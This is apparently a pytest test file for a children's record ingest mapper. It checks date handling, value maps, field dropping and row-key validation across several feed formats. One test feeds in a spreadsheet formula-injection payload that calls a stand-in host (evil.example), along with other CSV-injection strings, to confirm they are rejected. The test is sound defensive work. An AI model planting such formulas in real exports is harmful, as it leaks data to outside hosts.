"""The mapping rules real feeds need: constants, the extract's date, forgiving value maps, fields dropped
instead of whole rows, and dates that make sense."""

from __future__ import annotations

from datetime import date

import pytest

from contactpoint.domain.errors import ValidationError
from contactpoint.domain.vocabulary import Gender
from contactpoint.ingest.feed_row import ChangeKind, Dropped
from contactpoint.ingest.mapping import SourceMapping, load_mapping

TODAY = date(2026, 11, 23)

_LOCAL = """
source = "local_extract"
key = "id"
date_format = "%d/%m/%Y"
date_of_birth = "dob"
la = "LA"
extract_date = "EXTRACTED"

[constants]
LA = "201"
EXTRACTED = "31/03/2025"

[name]
given = "given"
family = "family"

[gender]
column = "sex"
codes = { M = "male", f = "female", " u " = "not_specified" }

[address]
lines = ["line1", "line2"]
town = "town"
postcode = "postcode"
"""


def _local(**values: str | None) -> dict[str, str | None]:
    row: dict[str, str | None] = {
        "id": "L1",
        "given": "Amara",
        "family": "Okafor",
        "dob": "14/02/2012",
        "sex": "F",
        "line1": "12 Mill Lane",
        "line2": None,
        "town": "Ashby",
        "postcode": "LE65 1AB",
    }
    return {**row, **values}


def _benefit(**values: str | None) -> dict[str, str | None]:
    row: dict[str, str | None] = {
        "RECORD_ID": "CB1",
        "CHANGE_TYPE": "F",
        "EFFECTIVE_DATE": "",
        "CHILD_REF": "",
        "CHILD_FORENAMES": "Amara",
        "CHILD_SURNAME": "Okafor",
        "CHILD_DOB": "14/02/2012",
        "CHILD_SEX": "F",
        "CLAIMANT_FORENAMES": "",
        "CLAIMANT_SURNAME": "",
        "CLAIMANT_PHONE": "",
        "ADDRESS_LINE_1": "12 Mill Lane",
        "ADDRESS_LINE_2": "",
        "ADDRESS_LINE_3": "",
        "TOWN": "Ashby",
        "POSTCODE": "LE65 1AB",
    }
    return {**row, **values}


@pytest.fixture
def local() -> SourceMapping:
    return SourceMapping.from_toml(_LOCAL)


@pytest.fixture
def benefit() -> SourceMapping:
    return load_mapping("child_benefit")


def test_a_constant_fills_a_column_the_file_does_not_carry(local: SourceMapping) -> None:
    row = local.map_row(_local(), 2)

    assert row.la_code == "201"


def test_the_extract_date_comes_from_a_constant_and_dates_the_row(local: SourceMapping) -> None:
    row = local.map_row(_local(), 2, today=TODAY)

    assert row.as_of == date(2025, 3, 31)


def test_the_extract_date_comes_from_a_column() -> None:
    mapping = SourceMapping.from_toml(
        _LOCAL.replace('EXTRACTED = "31/03/2025"\n', "").replace(
            'extract_date = "EXTRACTED"', 'extract_date = "made"'
        )
    )

    row = mapping.map_row(_local(made="01/09/2024"), 2, today=TODAY)

    assert row.as_of == date(2024, 9, 1)


def test_without_a_column_the_runs_extract_date_dates_the_row(benefit: SourceMapping) -> None:
    row = benefit.map_row(_benefit(), 2, extracted=date(2025, 6, 30), today=TODAY)

    assert row.as_of == date(2025, 6, 30)


def test_the_rows_own_effective_date_comes_before_the_extract_date(benefit: SourceMapping) -> None:
    row = benefit.map_row(_benefit(EFFECTIVE_DATE="01/05/2025"), 2, extracted=date(2025, 6, 30))

    assert row.as_of == date(2025, 5, 1)


@pytest.mark.parametrize(
    ("written", "gender"), [("M", "male"), (" m ", "male"), ("F", "female"), ("U", "not_specified")]
)
def test_value_maps_ignore_case_and_surrounding_spaces(
    local: SourceMapping, written: str, gender: str
) -> None:
    assert local.map_row(_local(sex=written), 2).gender is Gender(gender)


def test_change_codes_ignore_case_too(benefit: SourceMapping) -> None:
    assert benefit.map_row(_benefit(CHANGE_TYPE=" a "), 2).change is ChangeKind.AMEND


def test_codes_that_differ_only_in_case_must_mean_one_thing() -> None:
    with pytest.raises(ValidationError) as caught:
        SourceMapping.from_toml(_LOCAL.replace('f = "female"', 'f = "female", F = "male"'))

    assert caught.value.field == "mapping"


def test_an_address_line_with_a_stray_character_loses_that_line_only(benefit: SourceMapping) -> None:
    row, dropped = benefit.map_row_dropping(
        _benefit(ADDRESS_LINE_1="Flat 3 <b>", ADDRESS_LINE_2="12 Mill Lane"), 2, today=TODAY
    )

    assert row.whereabouts is not None
    assert row.whereabouts.address is not None
    assert row.whereabouts.address.lines == ("12 Mill Lane",)
    assert row.whereabouts.address.town == "Ashby"
    assert [d.field for d in dropped] == ["address_line"]
    assert "Flat" not in dropped[0].reason  # the reason names the rule, never the value


def test_a_town_with_a_stray_character_is_dropped_and_the_address_kept(benefit: SourceMapping) -> None:
    row, dropped = benefit.map_row_dropping(_benefit(TOWN="Ashby{"), 2, today=TODAY)

    assert row.whereabouts is not None
    assert row.whereabouts.address is not None
    assert row.whereabouts.address.town is None
    assert dropped == (Dropped("town", "may hold only letters, digits and address punctuation"),)


def test_a_postcode_without_an_address_line_is_kept(benefit: SourceMapping) -> None:
    row, dropped = benefit.map_row_dropping(_benefit(ADDRESS_LINE_1="", TOWN=""), 2, today=TODAY)

    assert row.whereabouts is None
    assert row.located_at is not None
    assert row.located_at.value == "LE65 1AB"
    assert dropped == ()


def test_a_postcode_whose_only_line_is_dropped_is_kept_too(benefit: SourceMapping) -> None:
    row, dropped = benefit.map_row_dropping(_benefit(ADDRESS_LINE_1="<>"), 2, today=TODAY)

    assert row.whereabouts is None
    assert row.located_at is not None
    assert [d.field for d in dropped] == ["address_line"]


def test_a_carer_with_a_broken_phone_number_is_dropped_and_the_child_kept(benefit: SourceMapping) -> None:
    row, dropped = benefit.map_row_dropping(
        _benefit(CLAIMANT_FORENAMES="Ngozi", CLAIMANT_SURNAME="Okafor", CLAIMANT_PHONE="call after 6"), 2
    )

    assert row.carers == ()
    assert [d.field for d in dropped] == ["carer"]


def test_an_identifier_failing_its_check_is_dropped_and_the_child_kept() -> None:
    fhir = load_mapping("fhir_patient")
    values: dict[str, str | None] = {
        "id": "p1",
        "given": "Amara",
        "family": "Okafor",
        "birthDate": "2012-02-14",
        "nhs_number": "9000088004",  # wrong check digit
        "postalCode": "LE65 1AB",
    }

    row, dropped = fhir.map_row_dropping(values, 1, today=TODAY)

    assert row.identifiers == ()
    assert [d.field for d in dropped] == ["nhs_number"]


@pytest.mark.parametrize(
    ("written", "reason"),
    [
        ("31/02/2015", "is not a real date (no such day or month)"),
        ("14/13/2015", "is not a real date (no such day or month)"),
        ("2015-02-14", "must be a date written DD/MM/YYYY"),
        ("14/02/3039", "is in the future"),
        ("31/12/1989", "is before 1990"),
    ],
)
def test_dates_of_birth_that_cannot_be_right_reject_the_row_with_a_clear_reason(
    benefit: SourceMapping, written: str, reason: str
) -> None:
    with pytest.raises(ValidationError) as caught:
        benefit.map_row(_benefit(CHILD_DOB=written), 2, today=TODAY)

    assert (caught.value.field, caught.value.rule) == ("date_of_birth", reason)


def test_no_birth_may_follow_the_extract_date(benefit: SourceMapping) -> None:
    with pytest.raises(ValidationError) as caught:
        benefit.map_row(_benefit(CHILD_DOB="01/07/2025"), 2, extracted=date(2025, 6, 30), today=TODAY)

    assert caught.value.rule == "is after the extract date"


def test_a_birth_on_the_extract_date_is_taken(benefit: SourceMapping) -> None:
    row = benefit.map_row(_benefit(CHILD_DOB="30/06/2025"), 2, extracted=date(2025, 6, 30), today=TODAY)

    assert row.date_of_birth == date(2025, 6, 30)


# Partial identity -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("blanked", "missing"),
    [
        ({"given": None}, ("given_name",)),
        ({"family": " "}, ("family_name",)),
        ({"dob": ""}, ("date_of_birth",)),
    ],
)
def test_a_row_lacking_a_name_or_birth_date_maps_to_a_partial_row_naming_what_is_missing(
    blanked: dict[str, str | None], missing: tuple[str, ...]
) -> None:
    row = SourceMapping.from_toml(_LOCAL).map_row(_local(**blanked), 2, today=TODAY)

    assert (row.partial, row.missing) == (True, missing)
    assert not row.names.known_as
    assert row.whereabouts is not None  # the rest of the row still counts


def test_a_complete_row_is_not_partial_and_a_required_column_still_rejects() -> None:
    assert not SourceMapping.from_toml(_LOCAL).map_row(_local(), 2, today=TODAY).partial
    strict = SourceMapping.from_toml(_LOCAL.replace('la = "LA"', 'la = "LA"\nrequired = ["dob"]'))

    with pytest.raises(ValidationError) as rejected:
        strict.map_row(_local(dob=None), 2, today=TODAY)

    assert (rejected.value.field, rejected.value.rule) == ("dob", "is required")


@pytest.mark.parametrize(
    "key",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"open")',
        "Imogen Tyler lives at 24 Laurel Close NE24 8DH",
        "@SUM(1+1)",
        "-2+3",
        "K" * 65,
        "CB 1",
    ],
)
def test_a_row_key_not_shaped_like_a_record_identifier_rejects_the_row_and_is_not_kept(
    benefit: SourceMapping, key: str
) -> None:
    values = _benefit(RECORD_ID=key)
    with pytest.raises(ValidationError) as raised:
        benefit.map_row(values, line=2)
    assert raised.value.field == "RECORD_ID"
    assert "record identifier" in raised.value.rule
    assert benefit.row_key(values) is None  # nothing of it reaches the ledger or a report


@pytest.mark.parametrize("key", ["CB1", "R-2025/00017", "urn:uuid:7f1c", "NHS_9434765919.v2", "K" * 64])
def test_record_identifiers_of_the_usual_shapes_are_row_keys(benefit: SourceMapping, key: str) -> None:
    assert benefit.map_row(_benefit(RECORD_ID=key), line=2).row_key == key
